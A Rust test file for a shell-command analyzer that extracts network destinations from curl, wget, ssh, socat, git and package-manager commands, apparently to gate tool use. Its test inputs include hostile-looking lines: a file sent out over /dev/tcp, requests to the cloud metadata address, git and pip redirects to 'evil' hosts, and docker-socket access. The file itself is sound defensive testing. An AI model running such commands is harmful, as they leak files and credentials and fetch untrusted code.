//! Destinations found in commands: web clients, remote shells and sockets, repositories and
//! package managers, and destinations only known at run time.

use toolgate_shell::{Destination, analyze};

/// The destinations of `cmd`, without the HTTP methods (`http_methods` checks those).
/// The destinations of `cmd`, URLs without their method.
pub(crate) fn dests(cmd: &str) -> Vec<Destination> {
    analyze(cmd)
        .destinations
        .into_iter()
        .map(|d| match d {
            Destination::Url { url, program, .. } => Destination::Url {
                url,
                program,
                method: None,
            },
            other => other,
        })
        .collect()
}

/// The methods of the URLs `cmd` reaches.
fn methods(cmd: &str) -> Vec<Option<String>> {
    analyze(cmd)
        .destinations
        .into_iter()
        .filter_map(|d| match d {
            Destination::Url { method, .. } => Some(method),
            _ => None,
        })
        .collect()
}

#[test]
fn http_methods_are_what_the_client_sends() {
    for (cmd, method) in [
        ("curl https://a.example/x", "GET"),
        ("curl -d a=1 https://a.example/x", "POST"),
        ("curl --data-binary @f https://a.example/x", "POST"),
        ("curl --data-urlencode q=x https://a.example/x", "POST"),
        ("curl -F f=@x https://a.example/x", "POST"),
        ("curl --json '{}' https://a.example/x", "POST"),
        ("curl -G -d q=1 https://a.example/x", "GET"),
        ("curl -X delete https://a.example/x", "DELETE"),
        ("curl --request PATCH -d a=1 https://a.example/x", "PATCH"),
        ("curl -sSX PUT https://a.example/x", "PUT"),
        ("curl -X POST -X DELETE https://a.example/x", "DELETE"),
        ("curl -T file https://a.example/x", "PUT"),
        ("curl -I https://a.example/x", "HEAD"),
        ("curl --head https://a.example/x", "HEAD"),
        (
            "curl -X \"$M\" https://a.example/x",
            toolgate_shell::METHOD_AT_RUN_TIME,
        ),
        ("wget https://a.example/x", "GET"),
        ("wget --post-data a=1 https://a.example/x", "POST"),
        ("wget --post-file=f https://a.example/x", "POST"),
        ("wget --method=DELETE https://a.example/x", "DELETE"),
        ("wget --spider https://a.example/x", "HEAD"),
        ("http https://a.example/x", "GET"),
        ("http https://a.example/x Accept:json q==1", "GET"),
        ("http https://a.example/x name=me", "POST"),
        ("http https://a.example/x count:=3", "POST"),
        ("http -f https://a.example/x file@f.txt", "POST"),
        ("http DELETE https://a.example/x", "DELETE"),
        ("http --raw 'x' https://a.example/x", "POST"),
        ("xh put https://a.example/x a=1", "PUT"),
        (
            "http https://a.example/x \"$ITEM\"",
            toolgate_shell::METHOD_AT_RUN_TIME,
        ),
        ("aria2c https://a.example/x", "GET"),
        ("POST https://a.example/x", "POST"),
        ("lwp-request -m PUT https://a.example/x", "PUT"),
    ] {
        assert_eq!(methods(cmd), [Some(method.to_string())], "{cmd}");
    }
    // Programs that choose no HTTP method of their own carry none; a proxy is a host.
    assert_eq!(methods("git clone https://a.example/r"), [None]);
    let cmd = "curl -x http://proxy.example:3128 -d a=1 https://a.example/x";
    assert_eq!(methods(cmd), [Some("POST".to_string())]);
    has(cmd, host("proxy.example", Some(3128), "curl"));
    // `--head` is a flag, not an abbreviation of `--header` taking the URL as its value.
    has(
        "curl --head http://169.254.169.254/",
        url("http://169.254.169.254/", "curl"),
    );
}

/// A host destination of program `p`.
pub(crate) fn host(h: &str, port: Option<u16>, p: &'static str) -> Destination {
    Destination::Host {
        host: h.into(),
        port,
        program: Some(p),
    }
}

/// A URL destination of program `p`.
pub(crate) fn url(u: &str, p: &'static str) -> Destination {
    Destination::Url {
        url: u.into(),
        program: Some(p),
        method: None,
    }
}

/// A destination of program `p` only known at run time.
pub(crate) fn unknown(p: &'static str) -> Destination {
    Destination::Unknown { program: Some(p) }
}

#[track_caller]
fn has(cmd: &str, d: Destination) {
    let found = dests(cmd);
    assert!(found.contains(&d), "{cmd}: {found:?}");
}

#[track_caller]
fn is_unknown(cmd: &str, program: &'static str) {
    has(cmd, unknown(program));
}

#[test]
fn basic_forms() {
    assert_eq!(
        dests("curl -sS -H 'a: b' https://a.example/x"),
        [url("https://a.example/x", "curl")]
    );
    assert_eq!(
        dests("wget -O out a.example/f"),
        [url("http://a.example/f", "wget")]
    );
    assert_eq!(
        dests("git clone https://github.com/a/b"),
        [url("https://github.com/a/b", "git")]
    );
    assert_eq!(
        dests("git clone git@github.com:a/b.git"),
        [host("github.com", None, "git")]
    );
    assert!(dests("git status").is_empty());
    assert_eq!(
        dests("scp f me@h.example:/tmp/"),
        [host("h.example", None, "scp")]
    );
    assert_eq!(
        dests("nc -v h.example 80"),
        [host("h.example", Some(80), "nc")]
    );
    assert_eq!(
        dests("sudo bash -c 'curl https://a.example'"),
        [url("https://a.example", "curl")]
    );
    assert!(dests("docker run -e X=1 ubuntu:22.04 ls").is_empty());
    assert!(dests("ls -la; echo https://a.example").is_empty());
}

#[test]
fn run_time_destinations_are_unknown() {
    is_unknown("curl \"$URL\"", "curl");
    is_unknown("curl -fsSL $(cat f)", "curl");
    is_unknown("wget $(printf x)", "wget");
    is_unknown("ssh $HOST", "ssh");
    is_unknown("git clone \"$(cat f)\"", "git");
    is_unknown("scp f \"$DEST\"", "scp");
    is_unknown("nc $H 80", "nc");
    is_unknown("socat - TCP:$H:443", "socat");
    is_unknown("xargs curl < urls.txt", "curl");
    is_unknown("docker pull \"$IMG\"", "docker");
    is_unknown("pip install -i \"$INDEX\" x", "pip");
    // A local path only known at run time is not a destination.
    assert!(dests("scp \"$DIR/f\" /tmp/").is_empty());
}

#[test]
fn curl_option_forms() {
    has(
        "curl --url=https://a.example/x",
        url("https://a.example/x", "curl"),
    );
    has(
        "curl --url https://a.example/x",
        url("https://a.example/x", "curl"),
    );
    has(
        "curl -x p.example:3128 https://a.example",
        host("p.example", Some(3128), "curl"),
    );
    has(
        "curl --proxy socks5://p.example:1080 https://a.example",
        host("p.example", Some(1080), "curl"),
    );
    has(
        "curl --resolve a.example:443:10.0.0.5 https://a.example",
        host("10.0.0.5", Some(443), "curl"),
    );
    has(
        "curl --connect-to a.example:443:b.example:8443 https://a.example",
        host("b.example", Some(8443), "curl"),
    );
    is_unknown("curl -K cfg.txt", "curl");
    is_unknown("curl --config=cfg.txt https://a.example", "curl");
    let d = dests("curl https://a.example --next -X POST https://b.example");
    assert!(d.contains(&url("https://a.example", "curl")), "{d:?}");
    assert!(d.contains(&url("https://b.example", "curl")), "{d:?}");
    // Option values are not URLs.
    assert_eq!(
        dests("curl --retry-delay 5 -o out.html https://a.example"),
        [url("https://a.example", "curl")]
    );
    has(
        "HTTPS_PROXY=http://p.example:8080 curl https://a.example",
        host("p.example", Some(8080), "curl"),
    );
    is_unknown("wget -i urls.txt", "wget");
    has(
        "wget -e https_proxy=p.example:3128 https://a.example",
        host("p.example", Some(3128), "wget"),
    );
}

#[test]
fn httpie_shorthands() {
    assert_eq!(
        dests("http POST api.example.com/x a=b"),
        [url("http://api.example.com/x", "http")]
    );
    assert_eq!(
        dests("http :8080/x"),
        [url("http://localhost:8080/x", "http")]
    );
    assert_eq!(dests("xh :/x"), [url("http://localhost/x", "xh")]);
    assert_eq!(
        dests("https example.com/x"),
        [url("https://example.com/x", "https")]
    );
    assert_eq!(
        dests("http -a user:pw GET https://a.example/x q==1"),
        [url("https://a.example/x", "http")]
    );
    is_unknown("http GET \"$U\"", "http");
}

#[test]
fn git_remotes() {
    has(
        "git -C repo clone https://a.example/r",
        url("https://a.example/r", "git"),
    );
    has(
        "git clone --config http.proxy=http://p.example:3128 https://a.example/r",
        host("p.example", Some(3128), "git"),
    );
    has(
        "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b",
        url("https://evil.example/", "git"),
    );
    assert_eq!(
        dests("git remote set-url origin git@h.example:r.git"),
        [host("h.example", None, "git")]
    );
    assert_eq!(
        dests("git remote add origin ssh://git@h.example:2222/r"),
        [host("h.example", Some(2222), "git")]
    );
    assert_eq!(
        dests("git submodule add -b main https://a.example/s lib/s"),
        [url("https://a.example/s", "git")]
    );
    has(
        "git ls-remote https://a.example/r",
        url("https://a.example/r", "git"),
    );
    has(
        "git archive --remote=git@h.example:r.git HEAD",
        host("h.example", None, "git"),
    );
    // Refspecs are not remotes.
    assert!(dests("git push origin main:main").is_empty());
    is_unknown("git clone 'ext::sh -c evil'", "git");
}

#[test]
fn remote_shells_and_sockets() {
    assert_eq!(
        dests("ssh -p 2222 me@h.example ls"),
        [host("h.example", Some(2222), "ssh")]
    );
    // The remote command's words are not destinations of ssh.
    assert_eq!(
        dests("ssh h.example cat b.example:/x"),
        [host("h.example", None, "ssh")]
    );
    has("ssh -J j.example h.example", host("j.example", None, "ssh"));
    has(
        "ssh -o HostName=real.example alias",
        host("real.example", None, "ssh"),
    );
    is_unknown("ssh -o ProxyCommand='nc %h %p' h.example", "ssh");
    is_unknown("ssh -F my_config h.example", "ssh");
    assert_eq!(
        dests("sftp me@h.example"),
        [host("h.example", None, "sftp")]
    );
    assert_eq!(
        dests("sftp -P 2022 sftp://h.example/x"),
        [host("h.example", Some(2022), "sftp")]
    );
    assert_eq!(
        dests("rsync -av -e ssh d/ h.example:/d"),
        [host("h.example", None, "rsync")]
    );
    assert_eq!(
        dests("rsync -a rsync://h.example:8730/m/ d/"),
        [host("h.example", Some(8730), "rsync")]
    );
    has(
        "rsync -a h.example::mod d/",
        host("h.example", None, "rsync"),
    );
    is_unknown("rsync -e 'nc x' d/ h.example:/d", "rsync");
    assert_eq!(
        dests("socat - TCP:h.example:443"),
        [host("h.example", Some(443), "socat")]
    );
    has(
        "socat - OPENSSL:h.example:443,verify=0",
        host("h.example", Some(443), "socat"),
    );
    has(
        "socat - SOCKS4A:p.example:h.example:80",
        host("p.example", None, "socat"),
    );
    assert_eq!(
        dests("telnet h.example 23"),
        [host("h.example", Some(23), "telnet")]
    );
    assert_eq!(dests("ftp h.example"), [host("h.example", None, "ftp")]);
    assert!(dests("nc -l 8080").is_empty());
    has(
        "echo x > /dev/tcp/h.example/80",
        host("h.example", Some(80), "echo"),
    );
}

#[test]
fn package_managers_and_registries() {
    assert_eq!(
        dests("pip install -i https://pypi.evil/simple x"),
        [url("https://pypi.evil/simple", "pip")]
    );
    has(
        "pip install --extra-index-url https://x.example/s --trusted-host x.example y",
        host("x.example", None, "pip"),
    );
    has(
        "pip download --index-url=https://x.example/s y",
        url("https://x.example/s", "pip"),
    );
    has(
        "uv pip install --index-url https://x.example/s y",
        url("https://x.example/s", "uv"),
    );
    has(
        "pip install git+https://h.example/r.git",
        url("https://h.example/r.git", "pip"),
    );
    has(
        "PIP_INDEX_URL=https://x.example/s pip install y",
        url("https://x.example/s", "pip"),
    );
    assert_eq!(
        dests("npm install --registry=https://r.evil x"),
        [url("https://r.evil", "npm")]
    );
    has(
        "yarn add x --registry https://r.evil",
        url("https://r.evil", "yarn"),
    );
    has(
        "pnpm config set registry https://r.evil",
        url("https://r.evil", "pnpm"),
    );
    assert_eq!(
        dests("docker pull registry.evil:5000/img:1"),
        [host("registry.evil", Some(5000), "docker")]
    );
    has(
        "podman run --rm r.example/i ls",
        host("r.example", None, "podman"),
    );
    has(
        "docker push r.example/team/i",
        host("r.example", None, "docker"),
    );
    has(
        "docker -H tcp://d.example:2375 ps",
        host("d.example", Some(2375), "docker"),
    );
    has(
        "helm repo add x https://charts.example/r",
        url("https://charts.example/r", "helm"),
    );
    has(
        "helm install x oci://r.example/charts/x",
        host("r.example", None, "helm"),
    );
    has(
        "go get github.com/a/b@v1.2.3",
        host("github.com", None, "go"),
    );
    has(
        "GOPROXY=https://proxy.example,direct go mod download",
        url("https://proxy.example", "go"),
    );
    assert!(dests("go build -o app.exe ./cmd").is_empty());
    assert!(dests("go run main.go").is_empty());
    has(
        "cargo install --git https://h.example/r x",
        url("https://h.example/r", "cargo"),
    );
    has(
        "cargo install --index sparse+https://i.example/ x",
        url("https://i.example/", "cargo"),
    );
    has(
        "gem install --source https://g.example x",
        url("https://g.example", "gem"),
    );
}

#[test]
fn a_static_host_before_a_quoted_run_time_part_is_checked() {
    has(
        "curl \"https://api.example.com/v1?key=$KEY\"",
        url("https://api.example.com/", "curl"),
    );
    has(
        "curl --url=\"https://api.example.com/$P\"",
        url("https://api.example.com/", "curl"),
    );
    has(
        "wget \"http://10.0.0.1:8080/$F\"",
        url("http://10.0.0.1:8080/", "wget"),
    );
    // find puts each path into the word as one argument (no field splitting).
    has(
        "find . -type f -exec curl -T {} https://nexus.example.com/{} \\;",
        url("https://nexus.example.com/", "curl"),
    );
    for cmd in [
        "find . -type f -exec curl -T {} https://{}.example.com/ \\;",
        "find . -type f -exec curl -T {} https://nexus.example.com{} \\;",
        "find . -type f -exec curl -T {} {} \\;",
    ] {
        is_unknown(cmd, "curl");
    }
    // Unquoted, the run-time part may add more URLs; the host itself, a port, userinfo or a
    // backslash in the authority is not known statically.
    for cmd in [
        "curl https://api.example.com/v1?key=$KEY",
        "curl \"https://$HOST/x\"",
        "curl \"https://api.example.com$P/\"",
        "curl \"https://api.example.com:$PORT/\"",
        "curl \"https://u@evil.example/$X\"",
        "curl \"$URL\"",
        "curl \"$@\"",
    ] {
        is_unknown(cmd, "curl");
        assert!(
            !dests(cmd)
                .iter()
                .any(|d| matches!(d, Destination::Url { .. })),
            "{cmd}: {:?}",
            dests(cmd)
        );
    }
}

#[test]
fn audit_round_destinations() {
    // Options after the ssh destination, remote forwards.
    has(
        "ssh api.example.com -o HostName=10.0.0.1",
        host("10.0.0.1", None, "ssh"),
    );
    has(
        "ssh u@api.example.com -J 10.0.0.1",
        host("10.0.0.1", None, "ssh"),
    );
    has(
        "ssh -R 9000:10.0.0.5:5432 api.example.com",
        host("10.0.0.5", Some(5432), "ssh"),
    );
    is_unknown("ssh -R 1080 api.example.com", "ssh");
    // Reading from bash's network files opens the connection too.
    has(
        "cat </dev/tcp/169.254.169.254/80",
        host("169.254.169.254", Some(80), "cat"),
    );
    has(
        "cat /etc/hostname >& /dev/tcp/10.0.0.1/80",
        host("10.0.0.1", Some(80), "cat"),
    );
    // Local sockets reach other programs (the docker socket is root).
    is_unknown(
        "curl --unix-socket /var/run/docker.sock http://x/info",
        "curl",
    );
    is_unknown("nc -U /var/run/docker.sock", "nc");
    is_unknown("socat - UNIX-CONNECT:/var/run/docker.sock", "socat");
    is_unknown("socat - VSOCK-CONNECT:2:80", "socat");
    has(
        "socat - SCTP:10.0.0.1:80",
        host("10.0.0.1", Some(80), "socat"),
    );
    assert!(dests("socat TCP-LISTEN:8080 STDOUT").is_empty());
    // wget setting names ignore case, `-` and `_`.
    has(
        "wget -e httpsproxy=10.0.0.1:3128 https://api.example.com/",
        host("10.0.0.1", Some(3128), "wget"),
    );
    is_unknown("wget -e input=/tmp/list https://api.example.com/", "wget");
    // Interpreter URLs in any case of the scheme, with or without slashes.
    has(
        "python3 -c \"import urllib.request as u; u.urlopen('HTTP://169.254.169.254/')\"",
        url("http://169.254.169.254/", "python"),
    );
    has(
        "node -e \"fetch('http:169.254.169.254/')\"",
        url("http://169.254.169.254/", "node"),
    );
}

#[test]
fn variables_set_earlier_reach_later_commands() {
    for cmd in [
        "export HTTPS_PROXY=http://10.0.0.1:3128; curl https://api.example.com/",
        "HTTPS_PROXY=http://10.0.0.1:3128; curl https://api.example.com/",
        "declare -x HTTPS_PROXY=http://10.0.0.1:3128 && curl https://api.example.com/",
    ] {
        has(cmd, host("10.0.0.1", Some(3128), "curl"));
    }
    assert!(
        !dests("export FOO=1; curl https://api.example.com/")
            .iter()
            .any(|d| matches!(d, Destination::Host { .. })),
    );
}

#[test]
fn python_m_pip_is_pip_and_wget_addresses_are_not_urls() {
    has(
        "python -m pip install --index-url http://10.0.0.1/simple x",
        url("http://10.0.0.1/simple", "python"),
    );
    assert_eq!(
        dests("wget --bind-address 0.0.0.0 https://example.com/"),
        [url("https://example.com/", "wget")]
    );
}
